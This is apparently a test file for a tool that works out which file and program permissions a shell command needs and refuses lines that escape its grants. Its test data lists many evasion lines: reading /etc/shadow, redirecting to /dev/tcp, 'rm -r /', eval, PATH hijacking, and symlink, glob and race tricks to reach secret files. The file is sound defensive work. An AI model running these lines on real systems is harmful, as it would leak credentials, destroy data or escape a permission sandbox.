// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are lines of a shell
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { Grants, parseGrants } from '../../src/policy/authority/match-grants.ts';
import { encodeNeed } from '../../src/policy/authority/need.ts';
import { shellNeeds } from '../../src/policy/authority/shell-needs.ts';
import { ANY_NAME } from '../../src/policy/authority/wildcards.ts';
import { fileView } from './file-view.ts';

interface ShellVectors {
  readonly cwd: string;
  readonly home: string;
  readonly files: readonly string[];
  readonly links: Readonly<Record<string, string>>;
  readonly vectors: readonly { line: string; needs: string[] | null; ambient?: string[] }[];
}
const VECTORS = JSON.parse(
  readFileSync(new URL('../../spec/vectors/capability/shell-line.json', import.meta.url), 'utf8'),
) as ShellVectors;
const ROOT = VECTORS.cwd;
const view = fileView(VECTORS.files, VECTORS.links);

function judge(line: string, allow: readonly string[], deny: readonly string[] = []): string {
  const { needs, unread } = shellNeeds(line, { cwd: ROOT, home: '/home/me', view });
  const parsed = parseGrants({ allow, deny });
  const grants = new Grants(parsed.allow, parsed.deny, ROOT);
  const refused = needs.filter((need) => !grants.decide(need).allowed);
  if (refused.length === 0) return 'allowed';
  return unread === null
    ? refused
        .map(({ domain, action, segments }) => `${domain}:${action}:${segments.map(String).join('/')}`)
        .join(' ')
    : unread;
}

const CAT = ['fs:read:src/**', 'process:exec:cat'];

describe('what a line for a shell needs', () => {
  it.each(VECTORS.vectors)('O4 is what the vector says: $line', ({ line, needs, ambient = [] }) => {
    const found = shellNeeds(line, { cwd: ROOT, home: VECTORS.home, view });
    expect(found.unread === null).toBe(needs !== null);
    if (needs === null) return;
    expect([...new Set(found.needs.map(encodeNeed))].sort()).toEqual(needs);
    expect(found.ambient).toEqual(ambient);
  });

  it.each([
    'cat src/a',
    'cat ./src/../src/a',
    'cat -n src/a src/b.ts',
    'cat < src/a',
    'cat src/*.ts',
    'cat src/a 2>/dev/null',
    'cat src/a 2>&1 | cat',
    'cat -- src/a',
    'cat \'src/a\' "src/b.ts"',
    'cat src/a && cat src/b.ts || cat src/a; cat src/a &',
    '(cat src/a)',
    'if cat src/a; then cat src/b.ts; fi',
  ])('O4 lets through what the grants cover: %s', (line) => {
    expect(judge(line, CAT)).toBe('allowed');
  });

  it.each([
    ['cat ../b', 'fs:read:work/b'],
    ['cat /etc/shadow', 'fs:read:etc/shadow'],
    ['cat src/../../b', 'fs:read:work/b'],
    ['cat src/away/shadow', 'fs:read:etc/shadow'],
    ['cat src/*/shadow', 'fs:read:etc/shadow'],
    ['cat src/away/../b', 'fs:read:b'],
    ['cat ~/x', 'fs:read:home/me/x'],
    ['cat < /etc/shadow', 'fs:read:etc/shadow'],
    ['cat src/a > out/x', 'fs:write:work/app/out/x'],
    ['cat src/a >> src/a', 'fs:write:work/app/src/a'],
    ['echo $(cat /etc/shadow)', 'fs:read:etc/shadow process:exec:echo'],
    ['cat src/a "`cat ../b`"', 'a backtick'],
    ['cat <(cat ../b)', 'read in different ways'],
    ['cat src/a; cp src/a out/', 'process:exec:cp fs:write:work/app/out/a'],
    ['cd .. && cat b', 'process:exec:cd fs:read:work/b'],
    ['echo x | xargs cat', 'xargs runs what it is told'],
    ['python3 -c \'open("/etc/shadow")\'', 'python3 runs what it is told'],
    ["python3.11 -c 'x'", 'python3.11 runs what it is told'],
    ['src/sh -c "cat /etc/shadow"', 'runs what it is told'],
    ['PATH=/tmp cat src/a', 'it sets PATH'],
    ['PATH=/tmp; cat src/a', 'it sets PATH'],
    ['for PATH in /tmp; do cat src/a; done', 'it sets PATH'],
    ['$X src/a', 'a program whose name'],
    ['cat $X', 'the name of a file'],
    ['cat {src/a,/etc/shadow}', '{ outside quotes'],
    ['cat src/a > $X', 'the target of a redirection'],
    ['cat src/a > /dev/tcp/1.2.3.4/80', 'opens a connection'],
    ['cat --files0-from=x src/a', 'unknown option'],
    ['eval "cat src/a"', 'eval runs what it is told'],
    ['cat src/a; . ./x', '. runs what it is told'],
    ['cat $((a[$(id)]))', 'more than $NAME'],
    [`cat "$\{x:=/etc}"`, 'more than $NAME'],
    ['cat() { rm -r /; }; cat src/a', 'a parenthesis out of place'],
    ['cat "', 'syntax is not understood'],
    ['cat src/a\nrm src/a', 'process:exec:rm fs:write:work/app/src/a'],
    ['printf -v PATH /tmp; cat src/a', 'an option of printf'],
    ['timeout 5 rm src/a', 'process:exec:timeout process:exec:rm fs:write:work/app/src/a'],
    ['command -p rm src/a', 'what command starts'],
    ['while cd ..; do cat a; done', 'a while loop'],
    ['cat $(<../b)', 'a redirection without a command'],
    ['cat src/a $(<../b)', 'a redirection without a command'],
    ['cat <<X\n$(cat ../b)\nX', 'a document with expansions'],
    ['cat <<<"$(cat ../b)"', 'read in different ways'],
    [`cat "$\{x:-$(cat ../b)}"`, 'more than $NAME'],
    ['case x in x) cat ../b;; esac', 'a parenthesis out of place'],
    ['until cat ../b; do cat src/a; done', 'a while loop'],
    ['! cat ../b', 'fs:read:work/b'],
    ['time cat ../b', 'the word time'],
    ['coproc cat ../b', 'a part that shells read'],
    ['{ cat src/a; } < ../b', '{ outside quotes'],
    ['cat src/a > >(cat ../b)', 'read in different ways'],
    ['cat .*/b', 'a wildcard in a path with . or ..'],
    ['cat src/*/../../../b', 'a wildcard in a path with . or ..'],
    ["c'a't ../b", 'a program whose name'],
    ['\\cat ../b', 'a program whose name'],
    ['/bin/cat src/a', 'process:exec:/bin/cat'],
    ['{cat,src/a}', '{ outside quotes'],
    ['cat src/a |& tee ../b', 'read in different ways'],
    ['cat ~+/b', 'another folder'],
  ])('O4 does not let through: %s', (line, why) => {
    expect(judge(line, CAT)).toContain(why);
  });

  it('looks behind programs that start another', () => {
    const grants = ['process:exec:timeout', 'process:exec:nohup', 'process:exec:nice', ...CAT];
    for (const line of ['nohup cat src/a', 'timeout -k 5 10s cat src/a', 'nice -n 5 nohup cat src/a'])
      expect(judge(line, grants)).toBe('allowed');
    for (const line of ['nohup cat ../b', 'timeout 5 cat ../b', 'nice -n 5 nohup cat ../b'])
      expect(judge(line, grants)).toBe('fs:read:work/b');
    expect(judge('timeout $T cat src/a', grants)).toBe('it is unknown what timeout starts');
  });

  it('goes where the shell goes', () => {
    const grants = ['process:exec:cd', ...CAT];
    expect(judge('cd src && cat a', grants)).toBe('allowed');
    expect(judge('cd src && cd .. && cat src/a', grants)).toBe('allowed');
    // If there is no such folder, it reads the file in this one.
    expect(judge('cd src; cat a', grants)).toBe('fs:read:work/app/a');
    expect(judge('cd nowhere || cat src/a', grants)).toBe('allowed');
    // By its name, `here/..` is the work tree; by where it leads, it is src.
    expect(judge('cd here && cd .. && cat a', grants)).toBe('fs:read:work/app/a');
  });

  it('lets a denial win, also over what can only be guessed', () => {
    expect(judge('cat src/a', [...CAT, 'process:exec:**'], ['fs:read:src/a'])).toBe('fs:read:work/app/src/a');
    expect(judge('bash -c x', ['process:exec:**'], [])).toBe('allowed');
    expect(judge('bash -c x', ['process:exec:**'], ['process:exec:rm'])).toBe('bash runs what it is told');
    expect(judge('rm -r src', ['process:exec:rm', 'fs:write:**'], ['fs:write:src/keep'])).toBe(
      'fs:write:work/app/src/Symbol(all below)',
    );
  });

  it('names programs whose work is their own', () => {
    expect(shellNeeds('npm test && cat src/a', { cwd: ROOT, home: '/home/me', view }).ambient).toEqual([
      'npm',
    ]);
  });
});

describe('O4 what a line does in a way that is easily overlooked', () => {
  const ALL = ['fs:read:**', 'fs:write:src/**', 'process:exec:*'];
  const DENY = ['fs:*:secret/**'];
  const place = fileView(
    [
      '/w/',
      '/w/src/',
      '/w/src/a',
      '/w/src/d/',
      '/w/src/plain/',
      '/w/src/plain/x',
      '/w/src/x/',
      '/w/secret/',
      '/w/secret/s',
      '/w/dash/',
      '/w/dash/-R',
      '/w/stuff/',
      '/w/bin/',
    ],
    {
      '/w/link': '/w/secret',
      '/w/src/k': '/w/secret/s',
      '/w/src/d/l': '/w/secret/s',
      '/w/src/x/x': '/w/secret/s',
      '/w/bin/tool': '/w/src/a',
      '/w/cur': '/w/src/d',
      '/w/src/old': '/etc',
      '/dev/fd': '/proc/self/fd',
    },
  );
  const isAllowed = (line: string, allow = ALL): boolean => {
    const { needs } = shellNeeds(line, { cwd: '/w', home: '/home/me', view: place });
    const parsed = parseGrants({ allow, deny: DENY });
    const grants = new Grants(parsed.allow, parsed.deny, '/w');
    return needs.every((need) => grants.decide(need).allowed);
  };

  it.each([
    ["echo ${x['a[$(touch y)]']}"],
    ["echo ${HOME:'a[$(touch y)]'}"],
    ["for f in 'a[$(touch y)]'; do echo ${HOME:f}; done"],
    ["for f in 'a[$(touch y)]'; do echo ${HOME:0:f}; done"],
    ["for f in 'a[$(touch y)]'; do echo ${x[f]}; done"],
    ['for f in \'a[$(touch y)]\'; do echo "${#x[f]}"; done'],
    ["for x in 'a[$(touch y)]'; do echo ${!x}; done"],
    ['echo ${x:-${y[f]}}'],
    [': {f}</dev/null; cat $f'],
  ])('an expansion that calculates, or names another, may run a text: %s', (line) => {
    expect(isAllowed(line)).toBe(false);
    expect(isAllowed(line, [...ALL, 'process:exec:**'])).toBe(true);
  });

  it.each([
    "cat <<E\n${x:-'$(touch y)'}\nE",
    'cat <<E\n${x-`touch y`}\nE',
    'echo "${x:-$\'$(touch y)\'}"',
    'printf "%n" PATH; cat src/a',
    "printf 'abc%5n' V",
    "printf %d 'path[$(touch y)1]'",
    "[ 'a[$(touch y)]' -eq 1 ]",
    'grep -v secret/*',
    'chmod [7s]* src/a',
    'cd src && date -f../secret/[s]',
    'sort src/a -o../secret/*',
    'cp -t../secre* a b',
    'strings @*/secret/s',
    'echo() { cat zz; }; c\\d secret; echo',
    'for f in src/a; do while true; do cat $f; for \\\n f in secret/s; do :; done; done; done',
    'mv src/d src/e && cat src/e/l',
    'cp -r src/d src/e && cat src/e/l',
    'rm -rf link/',
    'cp stuff/k src/',
    'ln -sfn a link/',
    'du -aL src',
    "cat $'sec\\x{72}et/s'",
    'mkdir -p secret/zz/../../src/x',
    'mkdir -p ../w/secret/zz/../../src/x',
    "ls src/*(e:'touch y':)",
    'for path in /w/src; do cat src/a; done',
    'true | cd secret; cat s',
    'cat src/**/z',
    'echo secret/*',
    'diff src src/d',
    'echo "touch y" | bash -v',
    'node --version x.js',
    'node -p 1 --version',
    'tclsh --version',
    'printf "$X" a',
    'printf %d "$X"',
    'chmod -x secret/s',
    'chmod -Rx secret',
    'command -p cat secret/s',
    'grep -v --regexp -e secret/s',
    'paste --delimiters -d secret/s',
    'touch --date -d secret/new',
    'du -B -d secret',
    'column -t -n -s secret/s',
    'date --fil=secret/s',
    'date --f secret/s',
    'hostname --fil x',
    'hostname x',
    'f\\\nor f in secret/s; do :; done; for f in src/a; do cat $f; done',
    'cat \\\n() { echo secret/s; }; cat "$(cat <<E\nsrc/a\nE\n)"',
    'cat src/d[x/../../secret/[s]',
    'rm src/k && mkdir src/k && cat src/k/../../secret/s',
    'rm -r src/d && mkdir -p src/d/l && cat src/d/l/../../../secret/s',
    'rm -rf */',
    'mkdir src/zz && cat src/z*/../../secret/s',
    'mkdir src/q && rm -r src/q*/../../secret',
    'rm -r src/d && mkdir -p src/d/l && cd src/d/l && cat ../../../secret/s',
    'rm -r src/d && mkdir -p src/d/l && cat src/d/*/f',
    'for f in /../../secret/; do cat src/d[x$f[s]; done',
    "for f in 'path[$(touch y)1]'; do printf %d f; done",
    "for f in 'path[$(touch y)1]'; do [ f -eq 1 ]; done",
    '[ -t "path[\\$(touch y)1]" ]',
    'cat $"secret/s"',
    "cat $'secret/s'",
    'cd src && touch ./-r && grep "" *',
    'echo > -rf && rm *',
    'cp src/a ./-R && ls *',
    'cd src/plain && touch ./-r && grep "" *',
    'rm -r src/x && mkdir src/x && cat src/x/sub',
    'chdir secret && cat s',
    '="bash" -c "touch y"',
    'time -o secret/new ls src',
    'cat a=~/../../w/secret/s',
    'cat ~"/../../w/secret/s"',
    'cp stuff/* src/d/ && true; cp src/plain/* src/x/',
    'cp -rT src/plain src/x',
    'cp -R src/plain/ src/x',
    'cp -r src/plain/. src/x',
    'cd src/plain && mv ../plain ../../src/e && cat ../../secret/s',
    "printf '%ln' PATH",
    "printf '%hhn' PATH",
    "printf %d 'PATH=0'",
    'printf %d PATH--',
    "printf '\\u0025d' 'path[$(touch y)]'",
    "printf '\\\\u0025d' PATH=1",
    'echo abc | tr abc secret/*',
    "for f in 'secret/*'; do echo a | tr a $f; done",
    "for f in 'secret/*'; do true; done; echo $f",
    "for f in 'secret/*'; do true; done; basename $f",
    "for f in 'secret/*'; do echo $f f=; done",
    'for f in src/a; do private f\'=\'secret/s; cat "$f"; done',
    'setopt extendedglob; cat src/^a',
    "bye 'path[$(touch y)]'",
    'cat src/a\nr src/a=secret/s',
    "zregexparse f x / /x%/ ':touch y'",
    'for f in src/a; do zformat -f f secret/s; cat "$f"; done',
    'pushln /w/src; getln PATH; a',
    'nameref PATH=/w/src; a',
    '<<E 2= cat secret/s\nx\nE',
    '<<E >src/n\nhello\nE',
    "for f in '{../secret/s,a}'; do cat $f; done",
    "for f in 'x[$(touch y)]'; do [ 1 -eq -f ]; done",
    "for ff in 'PATH=7'; do test -ff -lt 1; done",
    'cp dash/* src/plain && cd src/plain && grep "" *',
    'cd stuff && cp ../dash/-* . && ls *',
    'cd stuff && cp -r ../dash/. . && ls *',
    'cp -rT dash src/new && cd src/new && grep K ?r',
    'mv dash src/new && cd src/new && grep K *r',
    'for f in src/*; do cd stuff && touch "$f"; done',
    'for f in *; do cd src; sort "$f"; done',
    'repeat 2 touch y',
    'noglob touch y',
    'strings *',
    'for f in secret/*; do echo $f; done',
    'command -V secret/*',
    "echo $HOME['path[$(touch y)1]']",
    "cat <<E\n$HOME['path[$(touch y)1]']\nE",
    'git commit -m "$HOME[1]"',
    "exit 'path[$(touch y)1]'",
    "shift 'path[1]'",
    'cat $~PWD/secret/s',
    'echo $^X',
    'echo "$=X"',
    'echo ${(e)X}',
    'echo x >! secret/s',
    'echo x >>! secret/s',
    'for f in src/a; do cat $f:s/a/b/; done',
    'cat secret/s<1->9',
    'cat =ls',
    'cd +1 && cat s',
  ])('more ways, of bash and of zsh: %j', (line) => {
    expect(isAllowed(line)).toBe(false);
  });

  it.each([
    'node --version && node -v && python3 -V',
    'command -v node python3',
    'printf \'%s\\n\' "$HOME" $X',
    'chmod -x src/a',
    'ls --time-style=full-iso src',
    'mkdir -p ../out/new ./src/x',
    'diff src/a src/b.ts',
    'cp -r src/plain src/new && ls src/new',
    'mv src/plain src/new && ls src/new',
    'cd src && mv plain new && ls',
    'mv src/plain/* stuff/ && ls stuff',
    'cp -r src/plain/* stuff/ && ls stuff',
    'rm -rf src/plain && mkdir src/plain && cat src/a',
    'git commit -m "costs 5$, $HOME: done" && exit $?',
    'grep -n "foo$" src/a | head -n 3',
    'grep -E "a$|b$" src/a',
    'mytool -v "$PWD:/app" x; echo "$HOST:8080 ${A}"',
    'date -d "-1 day" +%F',
    'cat <<E\nIt costs 5.\nE',
    'head --lines=5 src/a; grep --include=*.ts --max-count=3 x src/a; ls --color=auto --color src',
    'printf "%5.2f %s\\n" 1 2',
    'for f in src/plain/*; do echo "$f"; done',
    'npm test \\\n  -- --run',
    'rm -rf src/d && mkdir src/d && ls src',
    '[ -f src/a ] && [ "$X" = y ] && [ 1 -lt 2 ] && cat src/a',
    'mkdir -p src/n && cp src/a src/n/',
    'cat ~/notes',
  ])('an everyday line is read: %s', (line) => {
    const { unread } = shellNeeds(line, { cwd: '/w', home: '/home/me', view: place });
    expect(unread).toBeNull();
  });

  it('a slash at its end has some programs copy what is in a folder', () => {
    const needs = (line: string) =>
      shellNeeds(line, { cwd: '/w', home: null, view: place }).needs.map(encodeNeed);
    expect(needs('cp -R src/plain/ stuff')).toContain('fs:write:/w/stuff/**');
    expect(needs('cp -R src/plain stuff')).not.toContain('fs:write:/w/stuff/**');
  });

  it('a folder that the line makes is one by the time that something is copied to it', () => {
    const { needs } = shellNeeds('mkdir src/n && cp stuff/k src/n', {
      cwd: '/w',
      home: '/home/me',
      view: place,
    });
    expect(needs.map(encodeNeed)).toContain('fs:write:/w/src/n/k');
  });

  it('a script of the project that is called like a harmless program acts on its own', () => {
    const ambient = (line: string) => shellNeeds(line, { cwd: '/w', home: '/home/me', view: place }).ambient;
    expect(ambient('bin/echo x')).toEqual(['bin/echo']);
    expect(ambient('./bin/node --version')).toEqual(['./bin/node']);
    expect(ambient('/usr/bin/echo x')).toEqual([]);
  });

  it('a plain one runs nothing', () => expect(isAllowed('echo ${x} $x "${x}" "$x"')).toBe(true));

  it.each([
    'grep -1e . secret/s',
    'egrep -h3e . secret/s',
    'head -9c secret/s',
    'tail -9c secret/s',
    'tail -5f secret/s',
    'od -w secret/s',
    'od -cw secret/s',
    'date -f secret/s',
    'date --file=secret/s',
    'hostname -F secret/s',
    'strings @secret/s',
    "for n in '1 secret/s'; do head -n $n src/a; done",
    'grep -C . secret/s',
    'ls -1R .',
    'grep -1r . .',
    'cd dash && ls *',
    'rm -',
    'cd secret && echo x > -',
    'touch secret/zz*',
    'echo x | tee secret/zz*',
    'cd secret && cat /proc/self/cwd/s',
    'cat /proc/thread-self/cwd/secret/s',
    'cat /dev/fd/../cwd/secret/s',
    'cat /proc/1/root/etc/passwd',
    'nohup cd src && cat ../secret/s',
    '/usr/bin/cd src; cat ../secret/s',
  ])('a file is read or written all the same: %s', (line) => {
    expect(isAllowed(line)).toBe(false);
  });

  it.each([
    'head -9 src/a',
    'head -c 9 src/a',
    'grep -1 -e . src/a',
    'grep -C 2 . src/a',
    'od -c -w16 src/a',
    'date -u +%F',
    'date -Iseconds',
    "date -d 'next monday'",
    'ls -1 src',
    'nohup cat src/a',
  ])('everyday lines stay what they were: %s', (line) => {
    expect(isAllowed(line, ALL)).toBe(true);
  });

  it.each([
    ['ln -s /w src/l && cat src/l/secret/s', false],
    ['ln -s ../secret/s src/l', false],
    ['cd src/d && ln -s ../../secret/s l', false],
    ['ln -s a src/l', true],
    ['ln -s ../x src/l; echo done', true],
    ['ln -s a src/l && cat src/l', false],
    ['ln stuff/f src/h', false],
    ['ln src/a src/h', true],
    ['cp -l stuff/f src/h', false],
    ['mv src/old src/b && echo x > src/b/passwd', false],
    ['mv src/a bin/tool', false],
    ['ln -f src/a bin/tool', false],
    ['ln -sfn a cur', false],
    ['mv -T src/d cur', false],
    ['cp src/a bin/tool', false],
    ['cp src/a src/b', true],
    ['mv src/a src/d', true],
    ['rmdir -p src/x', false],
  ])('names that lead elsewhere, and names that are replaced: %s', (line, allowed) => {
    expect(isAllowed(line)).toBe(allowed);
  });

  it.each(['cp -r stuff src/new', 'mv stuff src/new', 'cp -rT stuff src/new'])(
    'a folder brings what is below it: %s',
    (line) => {
      expect(isAllowed(line, ['fs:*:**', 'process:exec:*'])).toBe(true);
      const { needs } = shellNeeds(line, { cwd: '/w', home: null, view: place });
      expect(needs.map(encodeNeed)).toContain('fs:write:/w/src/new/**');
    },
  );
});

describe('O4 wildcards of a command that does more than read what it names', () => {
  const view = fileView(
    [
      '/w/',
      ...['/w/src/', '/w/src/a', '/w/src/b', '/w/src/d/', '/w/src/d/k', '/w/src/ld/'],
      ...['/w/out/', '/w/out/b', '/w/out/x.log', '/w/out/sub/', '/w/out/sub/x', '/w/out/m/', '/w/out/m/w'],
      ...['/w/out/e/', '/w/out/e/sub/', '/w/out/e/sub/-r', '/w/out/e/-v/', '/w/secret/', '/w/secret/key'],
    ],
    { '/w/src/ld/a': '/w/secret/key', '/w/src/lo': '/w/out' },
  );
  const isAllowed = (line: string): boolean => {
    const { needs } = shellNeeds(line, { cwd: '/w', home: '/home/me', view });
    const { allow, deny } = parseGrants({
      allow: ['fs:read:src/**', 'fs:*:out/**', 'process:exec:*'],
      deny: ['fs:*:secret/**', 'fs:read:out/sub/x'],
    });
    const grants = new Grants(allow, deny, '/w');
    return needs.every((need) => grants.decide(need).allowed);
  };

  it.each([
    'cd out && cp -R e/s* . && cd sub && grep K ?r',
    'cp -R out/e/s?b out && cd out/sub && grep K ?r',
    'cd out/sub && cp -a ../e/?ub .. && grep K ?r',
    'cd out && cp -R e/. . && cd sub && grep K ?r',
    'cd out && mv e/?v . && cp b sub/x -v && cat ./-v/x',
    'cd out && cp -R e/. . && cp b sub/x -v',
    'diff src/a src/l*d',
    'diff src/?d src/a',
    'cd src && diff a l*',
    'diff src/a src/l*/',
    'for f in src/*; do diff src/a "$f"; done',
    'cp src/a out/n*',
    'cp out/* src/d',
    'touch out/n && cp out/* out/m',
    'cat src/a | cp out/* out/m',
    'for f in 1 2; do cp out/x* out/m; done',
    'cp out/x* out/m & mkdir out/m/x.log',
    'rm src/lo/',
    'rm -r src/lo/./',
    'rm src/*o/',
    'cd src && rm lo/',
    'rmdir src/lo/',
    'mv src/lo/ out/q',
  ])('is refused: %s', (line) => expect(isAllowed(line)).toBe(false));

  it.each([
    'rm -f out/*.log',
    'rm -rf out/m/* && ls out/m',
    'cd out && mv *.log m',
    'mv out/*.log out/m/ && ls out/m',
    'cp -R src/d* out/m',
    'chmod 600 out/*.log',
    'diff src/a src/b*',
    'cat src/b* | sort > out/n && wc -l src/b*',
    'rm -r out/m/',
    'for f in src/?; do head -n 3 "$f"; done',
    'grep -rn foo src/d* | head',
    'touch out/n && ls out/m*',
  ])('is allowed: %s', (line) => expect(isAllowed(line)).toBe(true));

  it('builtin cd goes there in some shells, and stays in others', () => {
    const needs = (line: string) =>
      shellNeeds(line, { cwd: '/w', home: '/home/me', view }).needs.map(encodeNeed);
    for (const name of ['builtin', 'command'])
      expect(needs(`cd secret && ${name} cd && cat key`)).toEqual(
        expect.arrayContaining(['fs:read:/home/me/key', 'fs:read:/w/secret/key']),
      );
  });
});

describe('O4 a program that runs what it is told, by another name', () => {
  const unreadOf = (name: string): string | null =>
    shellNeeds(`${name} a`, { cwd: '/', home: null, view }).unread;

  it.each(
    [
      'ash hush rbash rksh rzsh lksh rlksh rmksh mksh-static yash posh oksh bash-5.2 zsh-5.9 ksh93 sh.distrib xonsh mongosh SH Bash.exe',
      'view rvim rview vim.tiny vim.gtk3 python3-dbg python3.11 perl5.36-x86_64-linux-gnu nodejs20 ipython original-awk gawk Env',
      'ionice chrt taskset setarch linux64 prlimit choom run-parts sg genv gxargs gfind gsed gtimeout TIMEOUT slogin',
    ].flatMap((names) => names.split(' ')),
  )('needs leave to run anything: %s', (name) => expect(unreadOf(name)).not.toBeNull());

  it.each(
    [
      'git gh go gcc g++ gzip gunzip gradle ./gradlew gem gofmt golangci-lint grpcurl gpg gcloud gsutil rg rm rmdir rev realpath readlink rsync',
      'ruff rustc rustup rake rails rspec rubocop rclone redis-cli npm npx pnpm yarn make cmake cargo pip pip3 pytest tsc eslint vitest jest',
      './build.sh scripts/install.sh git-push push publish trash md5sum sha256sum base64 7z x264 jq yq tar zip unzip curl wget less more file',
      'mvn java javac dotnet terraform helm psql mysql sqlite3 node-gyp ssh-keygen docker-compose semantic-release prettier biome open which',
    ].flatMap((names) => names.split(' ')),
  )('is none: %s', (name) => expect(unreadOf(name)).toBeNull());
});

describe('O4 what a line changes before it goes on', () => {
  const view = fileView(
    [
      '/w/',
      '/w/src/',
      '/w/src/f',
      '/w/src/a/',
      '/w/src/a/b/',
      '/w/src/a/b/d/',
      '/w/src/x/',
      '/w/src/x/sub/',
      '/w/src/k/',
      '/w/src/d1/',
      '/w/deep/',
      '/w/deep/er/',
      '/w/deep/er/f/',
      '/w/secret/',
      '/w/secret/s',
      '/w/package.json',
    ],
    {
      '/w/src/al': '/w/src/x',
      '/w/src/x/sub/lnk': '/w/deep/er/f',
      '/w/src/a/b/d/k': '/w/src/a/secret',
      '/link': '/w',
    },
  );
  const isAllowed = (line: string, cwd = '/w'): boolean => {
    const { needs } = shellNeeds(line, { cwd, home: '/home/me', view });
    const { allow, deny } = parseGrants({
      allow: ['fs:read:**', 'fs:write:src/**', 'process:exec:*'],
      deny: ['fs:*:secret/**', 'fs:write:**/package.json'],
    });
    const grants = new Grants(allow, deny, '/w');
    return needs.every((need) => grants.decide(need).allowed);
  };

  it.each([
    ['mv ../b ../../c && cat ../../secret/s', '/w/src/a/b'],
    ['mv ../b ../../c', '/w/src/a/b'],
    ['mv ../../a ../../../src/c', '/w/src/a/b'],
    ['mv ../b* ../../c', '/w/src/a/b'],
    ['mv /w/src/a/b /w/src/c; ls', '/link/src/a/b'],
    ['rm -r src/al/sub && mkdir -p src/al/sub/lnk && cat src/al/sub/lnk/../../../../secret/s', '/w'],
    ['cd src/al && rm -r sub && mkdir -p sub/lnk && cat sub/lnk/../../../../secret/s', '/w'],
    ['rm -r src/x && mkdir -p src/x/sub/lnk && cat src/x/sub/lnk/../../../../secret/s', '/link'],
    ['rm -r src/x && mv src/a src/x && cp src/f src/x/sub/lnk/../../../../package.json', '/w'],
    ['rm -r src/x && mkdir -p src/x/sub/lnk && cp src/f src/x/sub/lnk/g', '/w'],
    ['until [ -d src/k/secret ]; do cp -r src/d1 src/k/d*/../../../secret src/k; done', '/w'],
    ['f() { cp -r src/d1 src/k/d*/../../../secret src/k; }; f; f', '/w'],
    ['cp -r src/a/b/d/k src/k/s src/', '/w'],
    ['mv src/a/b/d/k src/k/s src/', '/w'],
    ['mv src/a/b/d src/d/k/s src/', '/w'],
    ['cp -a src/a/b/* src/d/k/s src/', '/w'],
    ['ln src/a/b/d/k src/k/s src/', '/w'],
    ["cat <<-'\tE'\nx\n\tE\ncat secret/s", '/w'],
    ['cat <<$"E"\nx\n$E\ncat secret/s', '/w'],
    ["cat <<'E\nF'\nx\nE\nF\ncat secret/s", '/w'],
    ['cat <<E\nx', '/w'],
    ['git checkout -q other -- secret && cat secret/x*', '/w'],
    ['mkdir src/zz; cat src/z?/.*/.*/secret/s', '/w'],
    ['(cd src/a/b; sleep 1; cat ../../secret/s) & mv src/a/b src/c', '/w'],
    ['mkdir src/n; cat src/k/../f', '/w'],
    ['mkdir src/zz && echo src/z*/../../secret/*', '/w'],
    ['(sleep 1; cp package.json src/n) & mkdir src/n; wait', '/w'],
    ['f() { cp package.json src/n; }; mkdir src/n; f', '/w'],
    ['while [ ! -f src/n/package.json ]; do cp package.json src/n; rm -f src/n; mkdir src/n; done', '/w'],
  ])('counts, wherever the line stands: %j in %s', (line, cwd) => {
    expect(isAllowed(line, cwd)).toBe(false);
  });

  it.each([
    ['mv f g && cat g', '/w/src'],
    ['cp f src2; mkdir k2; cat ../deep/x', '/w/src'],
    ['mv src/f src/d1/g src/k', '/w'],
    ['for f in src/f; do cat "$f"; done', '/w'],
    ['cat <<\'EOF\' > src/n\na << b\nEOF\ngit commit -m "a << b"', '/w'],
    ['ls src/*.none; npm test', '/w'],
  ])('leaves everyday lines alone: %j in %s', (line, cwd) => {
    expect(isAllowed(line, cwd)).toBe(true);
  });

  it.each([
    ['mv ../b ../../c', '/w/src/a/b', 'folder that has links in it'],
    ['mkdir src/zz && echo src/z*/../../secret/*', '/w', 'a wildcard in a path with . or ..'],
    ['rm -r src/x && mkdir -p src/x/sub/lnk && cat src/x/sub/lnk/g', '/link', 'removes or moves a folder'],
    ['rm -r src/x && mv src/d1 src/x && cp src/f src/x/sub/lnk/g', '/w', 'removes or moves a folder'],
    ['rm -r src/x && mv src/d1 src/x && src/x/sub/lnk/tool', '/w', 'removes or moves a folder'],
  ])('and why is said: %j in %s', (line, cwd, why) => {
    expect(shellNeeds(line, { cwd, home: '/home/me', view }).unread).toContain(why);
  });
});

it('O4 reads no further once a line needs more than can be listed, so that no host waits in vain', () => {
  const files = Array.from({ length: 500 }, (_, n) => `/w/f${n}`);
  let asked = 0;
  const few = fileView(['/w/', ...files]);
  const names = (folder: string) => {
    asked++;
    return few.names(folder, ANY_NAME);
  };
  const { unread, needs } = shellNeeds('cat *;'.repeat(300), {
    cwd: '/w',
    home: null,
    view: { ...few, names },
  });
  expect({ unread, needs: needs.length }).toEqual({ unread: 'it needs too much to be listed', needs: 4097 });
  expect(asked).toBeLessThan(20);
});
